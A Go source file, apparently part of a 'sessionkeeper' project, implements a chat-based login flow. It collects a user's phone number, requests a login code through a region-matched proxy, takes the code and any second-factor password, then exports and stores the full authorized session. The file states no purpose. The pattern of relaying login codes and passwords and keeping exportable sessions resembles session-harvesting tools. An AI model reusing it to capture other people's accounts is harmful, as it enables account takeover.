package auth

import (
	"context"
	"fmt"
	"strconv"
	"time"

	"github.com/google/uuid"
	"github.com/rs/zerolog/log"

	"github.com/openclaw/sessionkeeper/internal/audit"
	"github.com/openclaw/sessionkeeper/internal/model"
	"github.com/openclaw/sessionkeeper/internal/phone"
	"github.com/openclaw/sessionkeeper/internal/proxy"
	"github.com/openclaw/sessionkeeper/internal/remote"
	"github.com/openclaw/sessionkeeper/internal/util"
)

type ProxyResolver interface {
	Resolve(ctx context.Context, phone string) proxy.Assignment
}

type PhoneLocator interface {
	Locate(e164 string) (*phone.Location, error)
}

type SessionPersister interface {
	Persist(ctx context.Context, rec Record) (*model.AccountSession, error)
}

type Options struct {
	// PasswordMaxAttempts bounds wrong second-factor passwords per attempt.
	// Zero means unbounded.
	PasswordMaxAttempts int
}

// Orchestrator is the per-user authentication state machine:
// awaiting contact, awaiting code, awaiting second factor, then stored or
// discarded. Every event handler runs under the user's lease.
type Orchestrator struct {
	store     *Store
	keypad    *Keypad
	surface   Surface
	resolver  ProxyResolver
	connector remote.Connector
	locator   PhoneLocator
	persister SessionPersister
	opts      Options
	now       func() time.Time
}

func NewOrchestrator(
	store *Store,
	surface Surface,
	resolver ProxyResolver,
	connector remote.Connector,
	locator PhoneLocator,
	persister SessionPersister,
	opts Options,
) *Orchestrator {
	return &Orchestrator{
		store:     store,
		keypad:    NewKeypad(surface),
		surface:   surface,
		resolver:  resolver,
		connector: connector,
		locator:   locator,
		persister: persister,
		opts:      opts,
		now:       time.Now,
	}
}

// Begin starts a fresh attempt for userID, discarding any attempt in flight.
func (o *Orchestrator) Begin(ctx context.Context, userID int64) error {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	if prev := lease.Get(); prev != nil {
		log.Info().
			Int64("userId", userID).
			Str("attemptId", prev.AttemptID).
			Str("phase", string(prev.Phase)).
			Msg("discarding in-flight authentication for restart")
		lease.Clear()
	}

	sess := &Session{
		AttemptID: uuid.NewString(),
		Phase:     PhaseAwaitingContact,
		StartedAt: o.now(),
	}
	lease.Set(sess)

	audit.Log(ctx, audit.Event{
		Type:      audit.EventAuthStart,
		UserID:    strconv.FormatInt(userID, 10),
		AttemptID: sess.AttemptID,
	})

	return o.surface.AskContact(ctx, userID, msgShareContact)
}

// ContactShared handles the user's phone number. It picks the egress proxy,
// connects, requests a login code and shows the keypad.
func (o *Orchestrator) ContactShared(ctx context.Context, userID int64, rawPhone string) error {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	sess := lease.Get()
	if sess == nil || sess.Phase != PhaseAwaitingContact {
		log.Debug().Int64("userId", userID).Msg("ignoring contact outside of contact phase")
		return nil
	}

	number := phone.Normalize(rawPhone)
	sess.Phone = number
	if !phone.Valid(number) {
		return o.fail(ctx, lease, sess, "normalize", "not an E.164 number", msgInvalidPhone)
	}
	if loc, err := o.locator.Locate(number); err != nil {
		log.Warn().Err(err).Str("phone", util.MaskPhone(number)).Msg("failed to locate phone number")
	} else {
		sess.Region = loc.Region
	}

	egress := o.resolver.Resolve(ctx, number)
	sess.Egress = egress

	log.Info().
		Int64("userId", userID).
		Str("attemptId", sess.AttemptID).
		Str("phone", util.MaskPhone(number)).
		Str("region", sess.Region).
		Int("proxyIndex", egress.Index).
		Msg("connecting to remote service")

	client, err := o.connector.Connect(ctx, egress.URL)
	if err != nil {
		return o.fail(ctx, lease, sess, "connect", err.Error(), msgConnectFailed)
	}
	sess.Client = client
	lease.Set(sess)

	if err := client.RequestCode(ctx, number); err != nil {
		return o.fail(ctx, lease, sess, "request_code", err.Error(), msgCodeRequestFailed)
	}

	sess.Phase = PhaseAwaitingCode
	sess.Code = ""
	lease.Set(sess)

	audit.Log(ctx, audit.Event{
		Type:      audit.EventCodeRequested,
		UserID:    strconv.FormatInt(userID, 10),
		AttemptID: sess.AttemptID,
		Phone:     util.MaskPhone(number),
		Details: map[string]interface{}{
			"proxyIndex": egress.Index,
			"region":     sess.Region,
		},
	})

	// Without a keypad on screen the user has nothing to press.
	if err := o.render(ctx, lease, sess, ""); err != nil {
		return o.fail(ctx, lease, sess, "render", err.Error(), msgKeypadFailed)
	}
	return nil
}

// DigitPressed appends digit to the code being entered. The returned notice
// is non-empty when the press was rejected.
func (o *Orchestrator) DigitPressed(ctx context.Context, userID int64, digit byte) (string, error) {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	sess := lease.Get()
	if sess == nil || sess.Phase != PhaseAwaitingCode {
		return NoticeNotNow, nil
	}

	code, ok := PressDigit(sess.Code, digit)
	if !ok {
		if len(sess.Code) >= MaxCodeLength {
			return NoticeCodeTooLong, nil
		}
		return NoticeInvalidKey, nil
	}
	sess.Code = code
	lease.Set(sess)

	return "", o.render(ctx, lease, sess, "")
}

func (o *Orchestrator) DeletePressed(ctx context.Context, userID int64) (string, error) {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	sess := lease.Get()
	if sess == nil || sess.Phase != PhaseAwaitingCode {
		return NoticeNotNow, nil
	}
	if sess.Code == "" {
		return "", nil
	}

	sess.Code = DeleteDigit(sess.Code)
	lease.Set(sess)

	return "", o.render(ctx, lease, sess, "")
}

// SubmitPressed signs in with the entered code.
func (o *Orchestrator) SubmitPressed(ctx context.Context, userID int64) (string, error) {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	sess := lease.Get()
	if sess == nil || sess.Phase != PhaseAwaitingCode {
		return NoticeNotNow, nil
	}
	if sess.Code == "" {
		return NoticeCodeEmpty, nil
	}

	result := sess.Client.SignInWithCode(ctx, sess.Phone, sess.Code)
	log.Info().
		Int64("userId", userID).
		Str("attemptId", sess.AttemptID).
		Str("outcome", result.Outcome.String()).
		Msg("code sign-in finished")

	switch result.Outcome {
	case remote.OutcomeAuthorized:
		authorized, err := sess.Client.IsAuthorized(ctx)
		if err != nil {
			return "", o.fail(ctx, lease, sess, "check_authorized", err.Error(), msgRemoteError(""))
		}
		if !authorized {
			return "", o.fail(ctx, lease, sess, "check_authorized", "not authorized after code sign-in", msgNotAuthorized)
		}
		return "", o.complete(ctx, lease, sess)

	case remote.OutcomeSecondFactorRequired:
		sess.Phase = PhaseAwaitingPassword
		sess.Has2FA = true
		lease.Set(sess)
		return "", o.surface.AskPassword(ctx, userID, msgPasswordRequired)

	case remote.OutcomeCodeExpired:
		return "", o.fail(ctx, lease, sess, "sign_in", "code expired", msgCodeExpired)

	case remote.OutcomeCodeInvalid:
		sess.Code = ""
		lease.Set(sess)
		return NoticeCodeRejected, o.render(ctx, lease, sess, msgCodeRejected)

	case remote.OutcomeOther:
		return "", o.fail(ctx, lease, sess, "sign_in", result.Detail, msgRemoteError(result.Detail))
	}

	return "", o.fail(ctx, lease, sess, "sign_in", "unknown outcome "+result.Outcome.String(), msgRemoteError(""))
}

// PasswordReceived handles free text from userID. handled is false when the
// user is not waiting on a second factor, so the caller can treat the text
// as something else.
func (o *Orchestrator) PasswordReceived(ctx context.Context, userID int64, password string) (bool, error) {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	sess := lease.Get()
	if sess == nil || sess.Phase != PhaseAwaitingPassword {
		return false, nil
	}

	sess.PasswordAttempts++
	result := sess.Client.SignInWithPassword(ctx, password)
	log.Info().
		Int64("userId", userID).
		Str("attemptId", sess.AttemptID).
		Int("passwordAttempt", sess.PasswordAttempts).
		Str("outcome", result.Outcome.String()).
		Msg("password sign-in finished")

	switch result.Outcome {
	case remote.OutcomeAuthorized:
		authorized, err := sess.Client.IsAuthorized(ctx)
		if err != nil {
			return true, o.fail(ctx, lease, sess, "check_authorized", err.Error(), msgRemoteError(""))
		}
		if authorized {
			return true, o.complete(ctx, lease, sess)
		}
		return true, o.retryPassword(ctx, lease, sess)

	case remote.OutcomeCodeInvalid:
		return true, o.retryPassword(ctx, lease, sess)

	case remote.OutcomeCodeExpired:
		return true, o.fail(ctx, lease, sess, "password", "code expired", msgCodeExpired)

	case remote.OutcomeSecondFactorRequired, remote.OutcomeOther:
		return true, o.fail(ctx, lease, sess, "password", result.Detail, msgRemoteError(result.Detail))
	}

	return true, o.fail(ctx, lease, sess, "password", "unknown outcome "+result.Outcome.String(), msgRemoteError(""))
}

// Cancel aborts userID's attempt. It reports whether there was one.
func (o *Orchestrator) Cancel(ctx context.Context, userID int64) (bool, error) {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	sess := lease.Get()
	if sess == nil {
		return false, nil
	}
	lease.Clear()

	audit.Log(ctx, audit.Event{
		Type:      audit.EventAuthCancelled,
		UserID:    strconv.FormatInt(userID, 10),
		AttemptID: sess.AttemptID,
		Details:   map[string]interface{}{"phase": string(sess.Phase)},
	})

	return true, o.surface.Notify(ctx, userID, msgCancelled)
}

// Phase returns the phase of userID's attempt, or "" when idle.
func (o *Orchestrator) Phase(userID int64) Phase {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	if sess := lease.Get(); sess != nil {
		return sess.Phase
	}
	return ""
}

// Active is the number of attempts in flight.
func (o *Orchestrator) Active() int {
	return o.store.Len()
}

// ReapIdle discards attempts not advanced since cutoff and tells their users.
func (o *Orchestrator) ReapIdle(ctx context.Context, cutoff time.Time) int {
	reaped := 0
	for _, userID := range o.store.IdleUsers(cutoff) {
		if o.discard(ctx, userID, cutoff, msgIdleExpired) {
			reaped++
		}
	}
	return reaped
}

// Shutdown discards every attempt in flight, disconnecting remote clients.
func (o *Orchestrator) Shutdown(ctx context.Context) int {
	cleared := 0
	for _, userID := range o.store.Users() {
		if o.discard(ctx, userID, time.Time{}, msgShuttingDown) {
			cleared++
		}
	}
	return cleared
}

// discard clears userID when its session was last touched before cutoff. A
// zero cutoff clears unconditionally.
func (o *Orchestrator) discard(ctx context.Context, userID int64, cutoff time.Time, text string) bool {
	lease := o.store.Acquire(userID)
	defer lease.Release()

	sess := lease.Get()
	if sess == nil {
		return false
	}
	if !cutoff.IsZero() && !lease.TouchedBefore(cutoff) {
		return false
	}
	lease.Clear()

	log.Info().
		Int64("userId", userID).
		Str("attemptId", sess.AttemptID).
		Str("phase", string(sess.Phase)).
		Msg("discarded in-flight authentication")

	if err := o.surface.Notify(ctx, userID, text); err != nil {
		log.Warn().Err(err).Int64("userId", userID).Msg("failed to notify discarded authentication")
	}
	return true
}

func (o *Orchestrator) retryPassword(ctx context.Context, lease *Lease, sess *Session) error {
	if limit := o.opts.PasswordMaxAttempts; limit > 0 && sess.PasswordAttempts >= limit {
		return o.fail(ctx, lease, sess, "password", "too many password attempts", msgTooManyPasswords)
	}
	lease.Set(sess)
	return o.surface.Notify(ctx, lease.UserID(), msgPasswordRejected)
}

// complete exports and stores an authorized session, then ends the attempt.
func (o *Orchestrator) complete(ctx context.Context, lease *Lease, sess *Session) error {
	userID := lease.UserID()

	blob, err := sess.Client.ExportSession(ctx)
	if err != nil {
		return o.fail(ctx, lease, sess, "export", err.Error(), msgRemoteError(""))
	}

	account, err := sess.Client.Me(ctx)
	if err != nil {
		log.Warn().Err(err).Int64("userId", userID).Msg("failed to fetch account profile")
		account = nil
	}

	_, err = o.persister.Persist(ctx, Record{
		Phone:           sess.Phone,
		SessionBlob:     blob,
		ProxyIndex:      sess.Egress.Index,
		KeepStoredProxy: sess.Egress.Unconfirmed,
		UserID:          userID,
		AttemptID:       sess.AttemptID,
		Account:         account,
		Has2FA:          sess.Has2FA,
	})
	if err != nil {
		return o.fail(ctx, lease, sess, "persist", err.Error(), msgStoreFailed)
	}

	lease.Clear()

	audit.Log(ctx, audit.Event{
		Type:      audit.EventAuthSuccess,
		UserID:    strconv.FormatInt(userID, 10),
		AttemptID: sess.AttemptID,
		Phone:     util.MaskPhone(sess.Phone),
		Details: map[string]interface{}{
			"proxyIndex": sess.Egress.Index,
			"has2fa":     sess.Has2FA,
			"duration":   o.now().Sub(sess.StartedAt).String(),
		},
	})

	return o.surface.Notify(ctx, userID, msgSuccess(sess.Phone))
}

// fail ends the attempt and then tells the user. The session is gone before
// the notification goes out.
func (o *Orchestrator) fail(ctx context.Context, lease *Lease, sess *Session, step, reason, text string) error {
	userID := lease.UserID()
	lease.Clear()

	audit.Log(ctx, audit.Event{
		Type:      audit.EventAuthFailure,
		UserID:    strconv.FormatInt(userID, 10),
		AttemptID: sess.AttemptID,
		Phone:     util.MaskPhone(sess.Phone),
		Details: map[string]interface{}{
			"step":   step,
			"phase":  string(sess.Phase),
			"reason": reason,
		},
	})

	return o.surface.Notify(ctx, userID, text)
}

func (o *Orchestrator) render(ctx context.Context, lease *Lease, sess *Session, hint string) error {
	id, err := o.keypad.Render(ctx, lease.UserID(), sess.Code, hint, sess.SurfaceID)
	if err != nil {
		return fmt.Errorf("render keypad: %w", err)
	}
	if id != sess.SurfaceID {
		sess.SurfaceID = id
		lease.Set(sess)
	}
	return nil
}
